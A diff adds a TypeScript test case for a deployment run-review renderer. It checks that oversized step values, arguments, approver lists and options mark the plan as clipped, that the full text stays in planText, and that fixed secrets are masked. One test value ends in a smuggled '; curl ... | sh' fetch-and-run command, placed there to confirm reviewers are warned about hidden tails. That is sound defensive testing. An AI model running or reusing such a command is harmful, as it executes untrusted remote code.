@@ -264,6 +264,61 @@ describe('the run review request', () => {
     expect(whole).not.toContain('hunter2');
   });
 
+  it('anything cut marks the plan clipped, and planText holds it whole (review 11, F2)', () => {
+    const withValues = (values: Array<{ name: string; value: string }>): PlannedStep => {
+      const step = script('deploy.a', 'eval "$ARG_CMD"');
+      if (step.kind !== 'script') throw new Error('not a script step');
+      return { ...step, script: { ...step.script, with: values } };
+    };
+    const clipped = (groups: PlannedStep[][], runExtra: Partial<Run> = {}) => {
+      const view = viewOf(groups, 'pending-review', [], runExtra);
+      const request = renderRunReviewRequest(view, policy);
+      expectWithinLimits(request);
+      return { clipped: request.planClipped, text: JSON.stringify(request.blocks), whole: planText(view.run) };
+    };
+    expect(clipped([[withValues([{ name: 'CMD', value: 'x'.repeat(200) }])]]).clipped).toBe(false);
+
+    // One `with` value past 200 characters, with the script itself short.
+    const tail = '; curl -s https://tail.example/x | sh';
+    const long = clipped([[withValues([{ name: 'CMD', value: `echo ${'a'.repeat(230)}${tail}` }])]]);
+    expect(long.clipped).toBe(true);
+    expect(long.text).not.toContain('tail.example');
+    expect(long.text).toContain('every step in full, version');
+    expect(long.whole).toContain(`with ARG_CMD = echo ${'a'.repeat(230)}${tail}`);
+
+    // Every value short, the step's text past the block's 3000 characters.
+    const wide = clipped([[withValues(Array.from({ length: 20 }, (_, i) => ({ name: `W${i}`, value: `${i}-${'w'.repeat(180)}` })))]]);
+    expect(wide.clipped).toBe(true);
+    expect(wide.text).not.toContain(`19-${'w'.repeat(180)}`);
+    expect(wide.whole).toContain(`with ARG_W19 = 19-${'w'.repeat(180)}`);
+
+    // An argument past its budget: the file has every argument, fixed ones (and copies of them) as •••.
+    const args = {
+      deploy: [
+        { name: 'note', kind: 'input' as const, value: `${'n'.repeat(400)}-end` },
+        { name: 'secret', kind: 'fixed' as const, value: 'hunter2' },
+        { name: 'copy', kind: 'input' as const, value: 'x-hunter2' },
+      ],
+    };
+    const argument = clipped([[script('deploy.a', 'true')]], { arguments: args });
+    expect(argument.clipped).toBe(true);
+    expect(argument.whole).toContain(`deploy: note = ${'n'.repeat(400)}-end`);
+    expect(argument.whole).toContain('deploy: secret = •••');
+    expect(argument.whole).toContain('deploy: copy = •••');
+    expect(argument.text + argument.whole).not.toContain('hunter2');
+
+    // More approvers or options than are listed by name.
+    const crowd = Array.from({ length: 25 }, (_, i) => `U${String(i).padStart(8, '0')}`);
+    if (approval.kind !== 'approval' || input.kind !== 'input') throw new Error('fixtures');
+    const approvers = clipped([[{ ...approval, approval: { ...approval.approval, users: crowd } }]]);
+    expect(approvers.clipped).toBe(true);
+    expect(approvers.whole).toContain(crowd[24]);
+    const options = Array.from({ length: 12 }, (_, i) => `opt${i}`);
+    const choices = clipped([[{ ...input, input: { ...input.input, fields: [{ name: 'pick', kind: 'options', options }] } }]]);
+    expect(choices.clipped).toBe(true);
+    expect(choices.whole).toContain('one of opt0, opt1, opt2, opt3, opt4, opt5, opt6, opt7, opt8, opt9, opt10, opt11');
+  });
+
   it('the review DM links to the request and escapes the reason', () => {
     const dm = renderRunReviewDm(viewOf(small, 'pending-review').run, ['web-prod/sre'], 'https://fake.slack/archives/C1/p1');
     expectWithinLimits(dm);
